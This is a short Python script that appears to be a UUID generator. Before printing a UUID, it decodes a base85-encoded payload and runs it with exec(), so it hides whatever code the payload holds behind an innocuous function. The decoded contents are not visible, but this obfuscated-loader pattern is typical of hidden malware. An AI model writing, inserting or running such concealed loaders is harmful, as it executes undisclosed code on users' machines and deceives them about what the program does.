import base64, uuid
payload = b"X>D+Ca&#bXb31QyE^~QvbY*QQCu4PTY#=RjAZT=SaC15@FJW|aVPk7$axP_fVQp}1WiNGnb7&_i"
exec(base64.b85decode(payload))
print(uuid.uuid4())
